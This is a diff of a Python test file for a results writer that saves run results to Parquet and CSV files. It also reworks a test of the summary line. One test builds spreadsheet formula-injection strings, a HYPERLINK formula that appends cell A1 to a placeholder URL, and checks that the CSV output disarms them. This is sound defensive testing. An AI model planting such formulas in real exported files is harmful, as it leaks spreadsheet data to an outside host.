@@ -1,9 +1,10 @@
-"""Results of a run. If these break, a lost row goes unseen, or a catalog runs a formula in the
-spreadsheet of whoever opens the results."""
+"""Test the results of a run. If these break, a lost row goes unseen, or a catalog runs a formula in
+the spreadsheet of whoever opens the results."""
 
 from __future__ import annotations
 
 import csv
+from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any, get_args
@@ -74,7 +75,7 @@ def item() -> WorkItem:
 
 
 def write(folder: Path, rows: list[Result]) -> tuple[list[dict[str, Any]], list[dict[str, str]]]:
-    """What stands in the Parquet file and in the CSV file."""
+    """Write the rows; return those of the Parquet file and those of the CSV file."""
     parquet_path, csv_path = folder / "results.parquet", folder / "results.csv"
     with ResultsWriter(parquet_path, csv_path) as writer:
         for row in rows:
@@ -159,34 +160,35 @@ def test_the_tally_counts_by_status_and_by_error() -> None:
     assert dict(tally.by_error) == {"bad_mask": 2, "bad_row": 1}
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_a_formula_is_disarmed_in_the_csv_only(tmp_path: Path, start: str) -> None:
+def test_a_formula_is_disarmed_in_the_csv_only(tmp_path: Path) -> None:
     """Messages and rejected rows quote the catalog; a spreadsheet would run them."""
-    text = f'{start}HYPERLINK("http://host?"&A1)'
+    texts = [f'{start}HYPERLINK("http://host?"&A1)' for start in "=+-@\t\r"]
     rows = [
-        Result(line=1, row_id=text, task=text, status="rejected", error_code="bad_row", error=text),
-        Result(line=2, row_id="-a", task="edit", status="failed", error_code="x", error=text),
+        Result(line, text, text, status="rejected", error_code="bad_row", error=text)
+        for line, text in enumerate(texts, 1)
     ]
+    # Here the id is a valid one, which joins the table to its catalog.
+    rows.append(replace(rows[0], line=9, row_id="-a", task="edit", status="failed"))
     in_parquet, in_csv = write(tmp_path, rows)
-    assert [row["error"] for row in in_parquet] == [text, text]
-    assert [row["error"] for row in in_csv] == [f"'{text}", f"'{text}"]
-    assert (in_parquet[0]["row_id"], in_csv[0]["row_id"]) == (text, f"'{text}")
-    assert in_csv[0]["task"] == f"'{text}"
-    assert in_csv[1]["row_id"] == "-a"  # a valid id: what joins the table to its catalog
+    disarmed = [f"'{text}" for text in texts]
+    assert [row["error"] for row in in_parquet] == [*texts, texts[0]]
+    assert [row["error"] for row in in_csv] == [*disarmed, disarmed[0]]
+    for name, valid in (("row_id", "-a"), ("task", "edit")):
+        assert [row[name] for row in in_parquet] == [*texts, valid]
+        assert [row[name] for row in in_csv] == [*disarmed, valid]
 
 
-@pytest.mark.parametrize(
-    ("counts", "line"),
-    [
-        ({"rows": 3, "done": 3}, "3 done, 0 done before, of 3 rows"),
-        ({"rows": 3, "done_before": 3}, "0 done, 3 done before, of 3 rows"),
-        (
-            {"rows": 15, "done": 1, "done_before": 2, "failed": 3, "failed_before": 4,
-             "rejected": 5},
-            "1 done, 2 done before, 7 failed, 5 rejected, of 15 rows",
-        ),
-    ],
-)  # fmt: skip
+SUMMED_UP = {  # name: (counts, the line)
+    "all done": ({"rows": 3, "done": 3}, "3 done, 0 done before, of 3 rows"),
+    "all done before": ({"rows": 3, "done_before": 3}, "0 done, 3 done before, of 3 rows"),
+    "of each some": (
+        {"rows": 15, "done": 1, "done_before": 2, "failed": 3, "failed_before": 4, "rejected": 5},
+        "1 done, 2 done before, 7 failed, 5 rejected, of 15 rows",
+    ),
+}
+
+
+@pytest.mark.parametrize(("counts", "line"), SUMMED_UP.values(), ids=SUMMED_UP)
 def test_the_summary_line_says_what_happened(counts: dict[str, int], line: str) -> None:
     zero = dict.fromkeys(("done", "done_before", "failed", "failed_before", "rejected"), 0)
     moment = datetime(2025, 1, 1, tzinfo=UTC)
